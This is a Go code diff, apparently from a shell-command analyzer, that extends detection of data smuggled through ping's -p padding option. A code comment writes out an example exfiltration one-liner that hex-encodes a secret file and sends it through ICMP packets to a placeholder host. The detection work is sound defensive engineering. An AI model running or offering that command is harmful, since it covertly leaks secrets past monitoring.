@@ -775,7 +775,14 @@ func lookupH(x *call) {
 	case "whois":
 		method = ""
 	}
-	_, ops := sp.parse(x.args)
+	opts, ops := sp.parse(x.args)
+	// ping's -p pads each packet with a pattern (rules 13): a pattern
+	// computed at run time carries data (xxd -p secret | while read l;
+	// do ping -p $l HOST; done), as a computed name does.
+	pattern, padded := shellx.Word{}, false
+	if method == "ICMP" {
+		pattern, padded = val(opts, "-p")
+	}
 	for _, w := range ops {
 		t := w.Text
 		if strings.HasPrefix(t, "@") {
@@ -787,6 +794,9 @@ func lookupH(x *call) {
 		}
 		k := x.request(Request{Host: hostOf(t), Method: method})
 		x.computed(k, w)
+		if padded {
+			x.computed(k, pattern)
+		}
 		if x.name == "nslookup" || x.name == "host" {
 			// a second operand is the server
 			method = "DNS"
